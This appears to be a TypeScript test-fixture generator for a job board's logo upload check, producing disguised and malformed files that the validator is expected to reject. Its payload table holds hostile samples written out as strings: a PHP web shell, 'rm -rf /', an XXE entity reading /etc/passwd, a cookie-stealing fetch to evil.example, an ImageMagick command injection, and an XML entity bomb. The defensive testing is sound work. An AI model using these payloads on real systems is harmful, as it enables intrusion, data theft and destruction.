/** Files that pretend to be logos, or are ones that must not be stored: generated, so that no one has to trust a binary. */
import { deflateSync, gzipSync } from 'node:zlib'
import { messageKeys } from '@jobboard/contracts/shared/message-keys'
import { maxLogoBytes } from '@jobboard/contracts/shared/pictures'
import sharp from 'sharp'

export interface HostilePicture {
  readonly name: string
  readonly bytes: Buffer
  /** Message keys, one of which is the answer. */
  readonly refusedWith: readonly string[]
}

const { companyLogoInvalidFormat: format, companyLogoCorrupted: corrupted, companyLogoTooManyPixels: pixels } = messageKeys
const { companyLogoSizeTooSmall: small, companyLogoInvalidSize: large } = messageKeys

const blank = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#3366cc' } })
/** Random pixels: blank ones compress to so little that nothing can be cut off. */
const noise = (side: number) => sharp(pseudoRandom(side * side * 3), { raw: { width: side, height: side, channels: 3 } })

function pseudoRandom(length: number): Buffer {
  let state = 20_260_301
  return Buffer.from(
    Uint8Array.from({ length }, () => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
      return state >>> 24
    }),
  )
}

const crcTable = Array.from({ length: 256 }, (_, number) => {
  let value = number
  for (let bit = 0; bit < 8; bit += 1) value = (value & 1) === 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1
  return value >>> 0
})
const crc = (bytes: Buffer): number => {
  let value = 0xffffffff
  for (const byte of bytes) value = (crcTable[(value ^ byte) & 255] ?? 0) ^ (value >>> 8)
  return (value ^ 0xffffffff) >>> 0
}

function pngChunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.byteLength)
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc(named))
  return Buffer.concat([length, named, checksum])
}

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

/** A PNG that says it is so large; its pixels are zeros, as many as `rows`. */
function claimedPng(width: number, height: number, rows: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const pixelsOf = deflateSync(Buffer.alloc((width + 1) * rows))
  return Buffer.concat([pngSignature, pngChunk('IHDR', header), pngChunk('IDAT', pixelsOf), pngChunk('IEND', Buffer.alloc(0))])
}

const insertedAfterHeader = (png: Buffer, chunk: Buffer): Buffer => Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])

/** Of exactly so many bytes. */
export const paddedPng = (png: Buffer, bytes: number): Buffer =>
  insertedAfterHeader(png, pngChunk('tEXt', Buffer.alloc(bytes - png.byteLength - 12, 'a')))

const texts: Readonly<Record<string, string>> = {
  'a page': '<!doctype html><script>alert(1)</script>',
  'an SVG': '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><script>alert(1)</script></svg>',
  'an SVG with an XML declaration': '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  'an SVG that reads a file':
    '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  'a PHP program': '<?php system($_GET["c"]); ?>',
  'a shell script': '#!/bin/sh\nrm -rf /\n',
  'a script': 'fetch("//evil.example/" + document.cookie)',
  'a style sheet': 'body { background: url(//evil.example) }',
  'a PostScript program': '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n',
  'an encapsulated PostScript': '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n',
  'a PDF': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  'an ImageMagick program': 'push graphic-context\nviewbox 0 0 200 200\nfill \'url(https://evil.example/"|id; ")\'\npop graphic-context',
  'a playlist': '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nfile:///etc/passwd\n',
  'an XML bomb': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "${'a'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>`,
  JSON: '{"logo":"data:image/png;base64,AAAA"}',
  'a data address': 'data:image/png;base64,iVBORw0KGgo=',
  'white space': ' '.repeat(1_000),
  'an XBM of a C program': '#define x_width 200\n#define x_height 200\nstatic char x_bits[] = {0x00};',
  'a PPM': 'P3\n200 200\n255\n0 0 0',
  'an XPM': '/* XPM */\nstatic char *x[] = {"200 200 1 1"};',
}

const foreignHeads: Readonly<Record<string, readonly number[]>> = {
  'an archive': [0x50, 0x4b, 0x03, 0x04],
  'a Windows program': [0x4d, 0x5a, 0x90, 0x00],
  'a Linux program': [0x7f, 0x45, 0x4c, 0x46],
  'a Java class': [0xca, 0xfe, 0xba, 0xbe],
  WebAssembly: [0x00, 0x61, 0x73, 0x6d],
  'an icon': [0x00, 0x00, 0x01, 0x00],
  'a Photoshop file': [0x38, 0x42, 0x50, 0x53],
  'a 7-Zip archive': [0x37, 0x7a, 0xbc, 0xaf],
  'a BMP': [0x42, 0x4d, 0x36, 0x00],
  zeros: [0, 0, 0, 0],
}

export async function hostilePictures(): Promise<readonly HostilePicture[]> {
  const png = await noise(160).png().toBuffer()
  const jpeg = await noise(160).jpeg().toBuffer()
  const progressive = await noise(160).jpeg({ progressive: true }).toBuffer()
  const pictures = { PNG: png, JPEG: jpeg, 'progressive JPEG': progressive } as const
  const found: HostilePicture[] = []
  const add = (name: string, bytes: Buffer, ...refusedWith: string[]) => found.push({ name, bytes, refusedWith })

  for (const [name, text] of Object.entries(texts)) add(name, Buffer.from(text), format)
  for (const [name, head] of Object.entries(foreignHeads)) add(name, Buffer.concat([Buffer.from(head), Buffer.alloc(500, 7)]), format)
  add('nothing', Buffer.alloc(0), format)
  add('a compressed SVG', gzipSync(texts['an SVG'] ?? ''), format)
  for (const other of ['webp', 'gif', 'tiff', 'avif'] as const) add(`a ${other}`, await blank(200, 200).toFormat(other).toBuffer(), format)
  add('an animated GIF', await animated('gif'), format)
  add('an animated WebP', await animated('webp'), format)
  add('an animated PNG', insertedAfterHeader(png, pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))), format)

  for (const [name, picture] of Object.entries(pictures)) {
    const cut = (share: number) => picture.subarray(0, Math.floor(picture.byteLength * share))
    for (const share of [0.1, 0.5, 0.9]) add(`${share * 100} % of a ${name}`, cut(share), corrupted, format)
    add(`a ${name} without its last byte`, picture.subarray(0, -1), corrupted, format)
    add(`a ${name} that is an archive as well`, Buffer.concat([picture, Buffer.from('PK\u0003\u0004archive')]), format)
    add(`a ${name} that is a page as well`, Buffer.concat([picture, Buffer.from(texts['a page'] ?? '')]), format)
    add(`a ${name} that is a PHP program as well`, Buffer.concat([picture, Buffer.from(texts['a PHP program'] ?? '')]), format)
    add(`a ${name} after a page`, Buffer.concat([Buffer.from('<html>'), picture]), format)
  }
  add('a JPEG with a page after its second picture', Buffer.concat([jpeg, jpeg, Buffer.from('<html>')]), format)
  add('a JPEG of its first marker alone', jpeg.subarray(0, 3), corrupted, format)
  add('a PNG of its signature alone', pngSignature, corrupted, format)
  add('a PNG without pixels', claimedPng(200, 200, 0), corrupted)
  add('a PNG with half of its pixels', claimedPng(200, 200, 100), corrupted)
  add('a PNG of 30,000 by 30,000 in a few bytes', claimedPng(30_000, 30_000, 10), pixels)
  add('a PNG of 5,001 by 5,001', claimedPng(5_001, 5_001, 5_001), pixels)
  add('a PNG of two billion columns', claimedPng(0x7fffffff, 1, 0), pixels, corrupted)
  add('a PNG of no columns', claimedPng(0, 200, 1), corrupted, format)
  add('a PNG whose header has a wrong checksum', flipped(png, 30), corrupted)
  add('a PNG whose pixels have a wrong checksum', flipped(png, Math.floor(png.byteLength / 2)), corrupted)
  add('a JPEG that claims 65,535 by 65,535', withJpegSize(jpeg, 65_535, 65_535), pixels, corrupted)
  add('a JPEG of no lines', withJpegSize(jpeg, 160, 0), corrupted, pixels, small)
  for (const [width, height] of [
    [99, 200],
    [200, 99],
    [1, 1],
    [99, 99],
  ] as const)
    add(`a PNG of ${width} by ${height}`, await blank(width, height).png().toBuffer(), small)
  add('a JPEG of 50 by 500', await blank(50, 500).jpeg().toBuffer(), small)
  add('one byte more than may be', Buffer.concat([png, Buffer.alloc(maxLogoBytes + 1 - png.byteLength)]), large)
  return found
}

const flipped = (bytes: Buffer, at: number): Buffer => {
  const copy = Buffer.from(bytes)
  copy[at] = (copy[at] ?? 0) ^ 0xff
  return copy
}

/** The size stands five bytes after the marker of the frame. */
function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg)
  const at = copy.indexOf(Buffer.from([0xff, 0xc0]))
  copy.writeUInt16BE(height, at + 5)
  copy.writeUInt16BE(width, at + 7)
  return copy
}

async function animated(as: 'gif' | 'webp'): Promise<Buffer> {
  const frames = await Promise.all(
    ['#f00', '#0f0'].map((background) =>
      sharp({ create: { width: 200, height: 200, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  )
  return sharp(frames, { join: { animated: true } })
    .toFormat(as)
    .toBuffer()
}
